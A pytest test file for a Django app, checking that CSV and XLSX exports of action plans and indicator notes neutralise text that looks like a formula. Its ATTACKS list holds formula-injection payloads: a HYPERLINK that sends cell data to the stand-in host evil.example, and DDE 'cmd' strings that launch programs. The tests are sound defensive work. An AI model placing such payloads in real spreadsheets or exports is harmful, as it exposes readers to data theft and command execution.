"""Officer text that starts like a formula is never a formula in a CSV or XLSX export.

`=HYPERLINK(…)`, `+cmd|…`, `-2+3`, `@SUM(…)` typed into an action plan or an indicator's notes
must reach the reader of the public file as text: in CSV with a leading apostrophe, in XLSX as a
string cell with the quote prefix, never a formula cell.
"""
import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from actions import selectors, spreadsheets
from actions.demo import load_demo
from actions.models import Action, Plan, Section
from core.exports import neutralise_cell, restore_cell
from performance.models import Indicator

from tests.performance.factories import IndicatorFactory, IndicatorValueFactory
from tests.actions.test_actions_spreadsheets import action_facts, import_bytes, section_facts

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for the full plan")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _risky_cells(rows):
    return [c for row in rows for c in row if isinstance(c, str) and c.startswith(TRIGGERS)]


@pytest.fixture
def attacked_indicator(board):
    indicator = IndicatorFactory(code="LAC1", title=ATTACKS[0], unit=Indicator.Unit.COUNT, decimal_places=0,
                                 polarity=Indicator.Polarity.NEITHER, rag_basis=Indicator.RagBasis.NONE, boards=[board])
    for n, attack in enumerate(ATTACKS[1:]):
        IndicatorValueFactory(indicator=indicator, period_start=datetime.date(2012 + n, 4, 1),
                              numerator=Decimal(40 + n), denominator=None, notes=attack)
    return indicator


def test_public_indicator_csv_writes_no_formula(client, attacked_indicator):
    body = client.get(reverse("performance:indicator_export", args=[attacked_indicator.pk])).content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0][0].startswith("Public data")
    assert _risky_cells(rows) == []
    cells = {c for row in rows for c in row}
    for attack in ATTACKS:  # the text is all there, behind the apostrophe
        assert "'" + attack in cells
    assert [r[7] for r in rows[2:]] == ["40", "41", "42", "43", "44"]  # plain numbers untouched


@pytest.fixture
def attacked_plan(board, clerk):
    load_demo(board)
    plan = Plan.objects.get(board=board)
    Plan.objects.filter(pk=plan.pk).update(title=ATTACKS[0], period=ATTACKS[1])
    section = Section.objects.filter(plan=plan).order_by("position").first()
    Section.objects.filter(pk=section.pk).update(responsibility_heading=ATTACKS[2], responsibility_text=ATTACKS[3])
    Action.objects.filter(plan=plan, reference="1.1").update(lead_group="@SUM(9)", lead_person=None, lead_organisation=None)
    return plan


def test_action_plan_csv_download_writes_no_formula(client, attacked_plan, member):
    client.force_login(member)
    response = client.get(reverse("actions:plan_export", args=[attacked_plan.pk, "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert _risky_cells(rows) == []
    assert ["Plan", "'" + ATTACKS[0]] in rows
    assert any(row and row[0] == "'" + ATTACKS[3] for row in rows)


def test_action_plan_xlsx_download_has_no_formula_cells(client, attacked_plan, member):
    client.force_login(member)
    response = client.get(reverse("actions:plan_export", args=[attacked_plan.pk, "xlsx"]))
    ws = load_workbook(io.BytesIO(response.content)).active
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    values = {c.value: c for row in ws.iter_rows() for c in row if c.value}
    for text in (ATTACKS[0], ATTACKS[1], ATTACKS[2], ATTACKS[3], "@SUM(9)"):
        assert text in values, text  # shown exactly as typed …
        assert values[text].quotePrefix  # … and kept as text if the reader edits the cell


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_attacked_plan_still_round_trips_exactly(attacked_plan, board, clerk, fmt):
    plan = selectors.plan_with_meetings(attacked_plan.pk)
    sections, _ = selectors.plan_tree(plan)
    first = spreadsheets.export_xlsx(plan, sections) if fmt == "xlsx" else spreadsheets.export_csv(plan, sections)
    copy = import_bytes(board, clerk, first if fmt == "xlsx" else first.encode("utf-8"), name=f"plan.{fmt}")
    assert copy.title == ATTACKS[0]
    assert section_facts(copy) == section_facts(attacked_plan)
    assert action_facts(copy) == action_facts(attacked_plan)


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+44 115 915 5555", "'+44 115 915 5555"), ("-", "'-"), ("@home", "'@home"),
    ("＝1+1", "'＝1+1"), ("-3", "-3"), ("+1.5", "+1.5"), ("-12.5%", "-12.5%"), ("Ongoing", "Ongoing"),
    ("", ""), (None, None), (42, 42),
])
def test_the_one_helper(value, written):
    assert neutralise_cell(value) == written
    assert restore_cell(neutralise_cell(value)) == value
